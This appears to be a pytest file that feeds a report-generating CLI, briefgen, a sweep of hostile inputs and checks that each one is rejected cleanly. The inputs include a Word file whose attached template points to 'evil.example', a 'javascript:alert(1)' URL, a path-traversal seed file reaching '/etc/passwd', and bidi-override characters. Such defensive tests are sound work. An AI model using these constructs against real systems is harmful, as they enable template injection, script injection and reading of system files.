"""The sweep: every kind of bad input found from outside, through the CLI, is a user error.

Each case builds one hostile input and runs the command a user would.  None may
exit 70 (briefgen's own bug) or print a traceback; an input that is a mistake
gets exit 1 or 2 and a message naming what to fix.  The policies behind each
answer have their own tests (test_policies.py, test_long_fields.py,
test_reference_docx.py, test_as_of.py); this file only makes sure no path is left out.
"""
from __future__ import annotations

import csv
import io
import os
import shutil
import zipfile
from pathlib import Path

import docx
import pytest
import yaml

from helpers import run_cli

CONTENT = Path(__file__).parent / "fixtures" / "batch_content"
PLAN = '[[briefs]]\nregions = ["suqian"]\nformats = ["md"]\n'


def yaml_overlay(tmp: Path, file: str, rid: str, **fields) -> Path:
    record = next(r for r in yaml.safe_load((CONTENT / file).read_text(encoding="utf-8")) if r["id"] == rid)
    record.update(fields)
    folder = tmp / "overlay"
    folder.mkdir(exist_ok=True)
    (folder / file).write_text(yaml.safe_dump([record], allow_unicode=True), encoding="utf-8")
    return folder


def raw_overlay(tmp: Path, file: str, text: str) -> Path:
    folder = tmp / "overlay"
    folder.mkdir(exist_ok=True)
    (folder / file).write_text(text, encoding="utf-8")
    return folder


def csv_overlay(tmp: Path, **fields) -> Path:
    rows = list(csv.DictReader(io.StringIO((CONTENT / "indicators.csv").read_text(encoding="utf-8"))))
    rows[0].update(fields)
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerow(rows[0])
    return raw_overlay(tmp, "indicators.csv", buf.getvalue())


def check(folder: Path) -> list:
    return ["check", "--content", CONTENT, "--overlay", folder]


def make_md(tmp: Path, *extra) -> list:
    return ["make", "-r", "suqian", "--content", CONTENT, "-f", "md", "-o", tmp / "x.md", *extra]


def config(tmp: Path, text: str) -> Path:
    path = tmp / "briefgen.toml"
    path.write_text(text, encoding="utf-8")
    return path


def plan(tmp: Path, text: str = PLAN, bom: bool = False) -> Path:
    path = tmp / "plan.toml"
    path.write_bytes(("\ufeff" if bom else "").encode() + text.encode("utf-8"))
    return path


def logo(tmp: Path, how: str) -> Path:
    from PIL import Image

    if how == "cmyk":
        Image.new("CMYK", (60, 20)).save(tmp / "logo.jpg")
        return tmp / "logo.jpg"
    Image.new("RGB", (60, 20), (200, 0, 0)).save(tmp / "logo.png")
    data = (tmp / "logo.png").read_bytes()
    (tmp / "logo.png").write_bytes(data[: len(data) // 2])
    return tmp / "logo.png"


def remote_template_docx(tmp: Path) -> Path:
    path = tmp / "house.docx"
    docx.Document().save(str(path))
    with zipfile.ZipFile(path) as z:
        members = {i.filename: z.read(i) for i in z.infolist()}
    members["word/settings.xml"] = members["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom')
    members["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def linked_template(tmp: Path) -> Path:
    from briefgen.paths import data_dir

    folder = tmp / "templates" / "en"
    folder.mkdir(parents=True)
    outside = tmp / "narrative.j2"
    shutil.copy(data_dir("templates") / "en" / "narrative.j2", outside)
    (folder / "narrative.j2").symlink_to(outside)
    return folder.parent


def content_file_on(tmp: Path, what: str) -> Path:
    folder = tmp / "overlay"
    folder.mkdir()
    if what == "folder":
        (folder / "findings.yaml").mkdir()
    elif what == "fifo":
        os.mkfifo(folder / "findings.yaml")
    else:
        (folder / "findings.yaml").symlink_to("/dev/zero")
    return folder


def seeds_outside(tmp: Path) -> list:
    seeds = tmp / "seeds"
    seeds.mkdir()
    folder = yaml_overlay(tmp, "sources.yaml", "bt-2024", seed_file="../../../../../../etc/passwd")
    return ["check", "--content", CONTENT, "--overlay", folder, "--seeds", seeds]


#: (name, how to build the command line from a scratch folder, whether it is a mistake)
CASES = [
    ("as-of before a source's date (the README's example)",
     lambda t: ["make", "-r", "suqian", "--as-of", "2025-06-30", "-f", "md", "-o", t / "x.md"], False),
    ("a 1 MB finding", lambda t: check(yaml_overlay(t, "findings.yaml", "suqian-cbec-scale",
                                                    text_en="word " * 200_000)), True),
    ("a 5,000-character word in an indicator name", lambda t: check(csv_overlay(t, indicator_en="x" * 5000)), True),
    ("a 2,000-character region name", lambda t: check(yaml_overlay(t, "regions.yaml", "suqian",
                                                                   name_en="S" * 2000)), True),
    ("20,000 CJK characters", lambda t: check(yaml_overlay(t, "findings.yaml", "suqian-cbec-scale",
                                                           text_zh="宿" * 20_000)), True),
    ("a javascript: source URL", lambda t: check(yaml_overlay(t, "sources.yaml", "bt-2024",
                                                              url="javascript:alert(1)")), True),
    ("a UNC source URL", lambda t: check(yaml_overlay(t, "sources.yaml", "bt-2024", url="\\\\host\\share")), True),
    ("U+202E in an author", lambda t: check(yaml_overlay(t, "sources.yaml", "bt-2024", authors=[
        {"name_en": "A\u202eB", "name_zh": "甲", "affiliation_en": "", "affiliation_zh": ""}])), True),
    ("a C0 control in an affiliation", lambda t: check(yaml_overlay(t, "sources.yaml", "bt-2024", authors=[
        {"name_en": "A", "name_zh": "甲", "affiliation_en": "U\x01", "affiliation_zh": ""}])), True),
    ("U+202E in a unit", lambda t: check(raw_overlay(t, "units.yaml", '- {unit: "T\u202eU", en: TEU, base: teu, '
                                                                      "factor: 1}\n")), True),
    ("U+202E in the organisation", lambda t: make_md(t, "--config", config(t, 'organisation = "A\u202eB"\n')), True),
    ("factor: NaN", lambda t: check(raw_overlay(t, "units.yaml", "- {unit: 标箱, en: TEU, base: teu, factor: NaN}\n")), True),
    ("factor: .inf", lambda t: check(raw_overlay(t, "units.yaml", "- {unit: 标箱, en: TEU, base: teu, factor: .inf}\n")), True),
    ("factor: 1E+999999999", lambda t: check(raw_overlay(t, "units.yaml",
                                                        "- {unit: 标箱, en: TEU, base: teu, factor: 1E+999999999}\n")), True),
    ("base: [CNY]", lambda t: check(raw_overlay(t, "units.yaml", "- {unit: 标箱, en: TEU, base: [CNY], factor: 1}\n")), True),
    ("a font_cjk without Chinese", lambda t: ["make", "-r", "suqian", "--content", CONTENT, "--lang", "zh",
                                              "-o", t / "x.pdf", "--config", config(
        t, f'font_cjk = "{(Path(__import__("reportlab").__file__).parent / "fonts" / "Vera.ttf").as_posix()}"\n')],
     True),
    ("a template linked from outside its folder", lambda t: make_md(t, "--templates", linked_template(t)), True),
    ("a reference docx with a remote template", lambda t: ["make", "-r", "suqian", "--content", CONTENT, "-f",
                                                           "docx", "-o", t / "x.docx", "--reference-docx",
                                                           remote_template_docx(t)], True),
    ("an id with a trailing newline", lambda t: check(yaml_overlay(t, "regions.yaml", "suqian", id="suqian\n")), True),
    ("an edition with a trailing newline", lambda t: ["batch", plan(t, 'edition = "e\\n"\n' + PLAN), "--content",
                                                      CONTENT, "-o", t / "out"], True),
    ("a 5,000-digit figure", lambda t: check(csv_overlay(t, value="9" * 5000)), True),
    ("a YAML key that is a number", lambda t: check(raw_overlay(t, "regions.yaml", "- id: zz\n  1: x\n")), True),
    ("a YAML key that is yes", lambda t: check(raw_overlay(t, "regions.yaml", "- id: zz\n  yes: x\n")), True),
    ("an over-long -o name", lambda t: ["make", "-r", "suqian", "--content", CONTENT, "-f", "md",
                                        "-o", t / ("a" * 300 + ".md")], True),
    ("a duplicate id within one overlay", lambda t: check(raw_overlay(
        t, "regions.yaml", 2 * ((CONTENT / "regions.yaml").read_text(encoding="utf-8").split("\n- ", 1)[0] + "\n"))),
     True),
    ("a duplicate YAML key", lambda t: check(raw_overlay(t, "regions.yaml", "- id: zz\n  level: city\n  level: city\n")),
     True),
    ("a duplicate CSV column", lambda t: check(raw_overlay(
        t, "indicators.csv", (CONTENT / "indicators.csv").read_text(encoding="utf-8").splitlines()[0] + ",id\n")), True),
    ("a folder named as a content file", lambda t: check(content_file_on(t, "folder")), True),
    ("a FIFO named as a content file", lambda t: check(content_file_on(t, "fifo")), True),
    ("a link to /dev/zero named as a content file", lambda t: check(content_file_on(t, "zero")), True),
    ("briefgen.toml with a BOM", lambda t: make_md(t, "--config", config(t, '\ufefforganisation = "A"\n')), False),
    ("a plan with a BOM", lambda t: ["batch", plan(t, bom=True), "--content", CONTENT, "-o", t / "out"], False),
    ("a control character in a Word font name", lambda t: make_md(t, "--config",
                                                                  config(t, 'word_font_latin = "Cal\\u0007"\n')), True),
    ('a " in a font file name', lambda t: make_md(t, "--config", config(t, 'font_latin = "a\\"b.ttf"\n')), True),
    ("a truncated PNG logo", lambda t: make_md(t, "--config", config(t, f'logo = "{logo(t, "png").as_posix()}"\n')),
     True),
    ("a CMYK JPEG logo", lambda t: make_md(t, "--config", config(t, f'logo = "{logo(t, "cmyk").as_posix()}"\n')),
     True),
    ("--since /dev/zero", lambda t: ["batch", plan(t), "--content", CONTENT, "-o", t / "out", "--since", "/dev/zero"],
     True),
    ("--since a malformed manifest", lambda t: ["batch", plan(t), "--content", CONTENT, "-o", t / "out", "--since",
                                                config(t, '{"files": [1, {"key": 2}]}')], True),
    ("--jobs 1000", lambda t: ["batch", plan(t), "--content", CONTENT, "-o", t / "out", "--jobs", "1000"], True),
    ("check --seeds with a seed_file outside", seeds_outside, True),
    ("an ambiguous region name", lambda t: ["make", "-r", "Shared", "--content", CONTENT, "--overlay",
                                            raw_overlay(t, "regions.yaml", yaml.safe_dump([
                                                {**r, "aliases": ["Shared"]} for r in yaml.safe_load(
                                                    (CONTENT / "regions.yaml").read_text(encoding="utf-8"))[:2]],
                                                allow_unicode=True)), "-f", "md"], True),
]


@pytest.mark.parametrize("name, command, mistake", CASES, ids=[c[0] for c in CASES])
def test_no_bad_input_is_an_internal_error(name, command, mistake, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, _, err = run_cli(capsys, *command(tmp_path))
    assert code != 70 and "internal error" not in err and "Traceback" not in err, err
    if mistake:
        assert code in (1, 2) and err.startswith("briefgen: ") and len(err.strip()) > 30, (code, err)
    else:
        assert code == 0, err
